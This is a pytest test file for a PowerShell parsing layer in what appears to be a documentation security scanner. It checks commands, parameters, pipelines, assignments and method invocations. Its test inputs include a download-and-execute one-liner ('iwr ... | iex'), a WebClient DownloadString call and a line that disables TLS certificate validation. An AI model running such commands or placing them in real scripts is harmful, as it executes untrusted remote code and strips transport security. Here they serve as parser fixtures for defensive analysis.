"""PowerShell blocks: a view of their grammar beside the shell view they always had."""

from __future__ import annotations

import pytest

from docsec.languages import build_views
from docsec.languages.powershell import PowerShellView
from docsec.languages.shell import ShellView

pytest.importorskip("tree_sitter_powershell", reason="docsec[languages] is not installed")


def test_a_powershell_block_keeps_its_shell_view() -> None:
    views = build_views("iwr https://example.com/i.ps1 | iex\n", "powershell")
    assert views.view_kinds == ("python", "shell", "powershell", "text")
    assert isinstance(views.get("shell"), ShellView) and isinstance(views.get("powershell"), PowerShellView)


def test_commands_parameters_and_pipelines() -> None:
    ps = build_views('$p = ConvertTo-SecureString -String "x" -AsPlainText -Force\n'
                     'Get-Content a.txt | Select-String -Pattern err\n', "ps1").get("powershell")
    assert isinstance(ps, PowerShellView)
    convert, get, select = ps.commands
    assert convert.name == "ConvertTo-SecureString" and [p.name for p in convert.parameters] == [
        "string", "asplaintext", "force"]
    assert ps.string_value(convert.parameter("string").value) == "x"
    short = build_views('ConvertTo-SecureString "x" -AsPlain -Fo\n', "ps1").get("powershell")
    assert isinstance(short, PowerShellView)
    assert short.commands[0].parameter("asplaintext") is not None  # (a prefix PowerShell accepts)
    assert (get.position, select.position) == (0, 1) and ps.in_pipeline(select) == [get, select]
    assert select.parameter("pattern").value is not None and ps.text_of(select.parameter("pattern").value) == "err"


def test_assignments_invocations_and_strings() -> None:
    ps = build_views("$s = (New-Object Net.WebClient).DownloadString('https://x/y')\n"
                     '[System.Net.ServicePointManager]::ServerCertificateValidationCallback = {$true}\n'
                     '$name = "user $id"\n', "pwsh").get("powershell")
    assert isinstance(ps, PowerShellView)
    assert set(ps.assignments) == {"$s", "[system.net.servicepointmanager]::servercertificatevalidationcallback",
                                   "$name"}
    (download,) = ps.invocations
    assert download.name == "DownloadString" and ps.string_value(download.arguments[0]) == "https://x/y"
    assert ps.string_value(ps.assignments["$name"][0]) is None  # (it expands $id)
